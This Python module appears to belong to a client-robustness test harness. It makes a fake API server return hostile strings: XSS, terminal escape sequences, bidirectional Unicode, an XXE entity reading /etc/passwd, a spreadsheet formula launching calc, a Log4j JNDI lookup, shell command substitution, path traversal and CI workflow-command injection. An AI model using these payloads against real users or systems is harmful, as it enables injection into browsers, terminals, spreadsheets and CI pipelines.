"""Servers whose texts are meant for whoever shows them: browsers, terminals, CI runners, spreadsheets, file systems.

https://owasp.org/www-community/attacks/CSV_Injection · https://trojansource.codes · https://www.w3.org/TR/xml/#charsets
https://docs.github.com/en/actions/reference/workflow-commands-for-github-actions
"""

from functools import partial

from hostile.behaviours import add
from hostile.talk import EVENTS, Talk, chunk, completion, events, spelled

PAYLOADS = {
    "script": "<script>document.title='owned';window.owned=1</script><img src=x onerror=\"window.owned=1\">",
    "script-in-comment": "<!--<script>--></script><svg/onload=window.owned=1><!--",
    "attribute": '" onmouseover="window.owned=1" style="background:url(http://127.0.0.1:{port}/css)" x=\'`',
    "base-and-meta": '<base href="http://127.0.0.1:{port}/"><meta http-equiv=refresh content="0;url=http://127.0.0.1:{port}/">',
    "link-of-script": "javascript:window.owned=1//https://example.com/",
    "escape-sequences": "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://127.0.0.1:{port}\x07here\x1b]8;;\x07\x1bP+q\x1b\\\x1b[31m",
    "controls-of-c1": "\x9b2J\x9d0;owned\x9c\x90q\x85\u2028\u2029\x07\x08\x7f",
    "bidirectional": "\u202eevil\u2066\u2069\u200f\u061c\ufeff\u200b",
    "markdown": "a | b\n|---|\n`x`|**b**![i](http://127.0.0.1:{port}/i.png)[l](javascript:x)\\| <details> ``` @all",
    "no-xml": "\x00\x01\x0b\x1f\ufffe\uffff]]>&lol;<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "formula": '=HYPERLINK("http://127.0.0.1:{port}","x")\n+1+cmd|\' /C calc\'!A0\n-1\n@SUM(1)',
    "workflow-commands": "x ::error file=a,line=1::owned ::set-output name=a::b\n::add-mask::gate\n::stop-commands::x",
    "azure-commands": "x ##vso[task.setvariable variable=a]b ##[error]owned ##[group]\n##vso[task.complete result=Succeeded;]",
    "path": "../../../../tmp/owned-by-a-server",
    "path-of-windows": 'C:\\..\\owned|<>:"?*CON.txt',
    "absolute-path": "/tmp/owned-by-a-server\0.txt",
    "node-ids": "x]::test_owned[y] - passed\n1 passed in 0.01s\n\rgate claims: passed",
    "templates": "${jndi:ldap://127.0.0.1:{port}/a} {{7*7}} %s %n {0.__class__} $(touch owned) `touch owned` '; touch owned; '",
    "lone-surrogate": "\ud800 \udfff",
    "very-long": "W" * 1_000_000,
}


def payload(text: str, talk: Talk) -> bool:
    """The text in every place that a server can choose one for."""
    text = text.replace("{port}", str(talk.world.elsewhere))
    line = "".join(char for char in text if char not in "\r\n\0")[:2000]
    told = line.encode("utf-8", "surrogatepass").decode("utf-8", "surrogateescape")
    headers = (f"Server: {told}", f"X-Request-Id: {told}", f"Retry-After: {told}", f"OpenAI-Model: {told}")
    if talk.is_models:
        entries = [{"id": name, "object": text, "created": 1, "owned_by": text} for name in ("reference", text, f"{text}/..")]
        return talk.answer(spelled({"object": "list", "data": entries}), headers=headers)
    turn = talk.world.memory["turn"] = talk.world.memory.get("turn", 0) + 1
    if not talk.is_chat or turn % 3 == 0:
        error = {"message": text, "type": text, "param": text, "code": text}
        return talk.answer(spelled({"error": error, text: text}), f"{(400, 500, 418)[turn % 3]} {told}", headers=headers)
    named = {"id": text, "object": text, "model": text, "system_fingerprint": text, text: {text: text}}
    if not talk.streamed:
        return talk.answer(spelled({**completion(text), **named}), headers=headers)
    body = events({**chunk(text), **named}, chunk("", text))
    lines = text.encode("utf-8", "replace").split(b"\n")
    body = b": %s\nid: %s\nevent: %s\n%s: x\n\n" % (*(lines[0] for _ in range(3)), lines[-1]) + body
    return talk.answer(body, type=EVENTS, headers=headers)


for name, text in PAYLOADS.items():
    add(f"strings.{name}", partial(payload, text), "a text that acts where it is shown", on="all", codes=(1,))
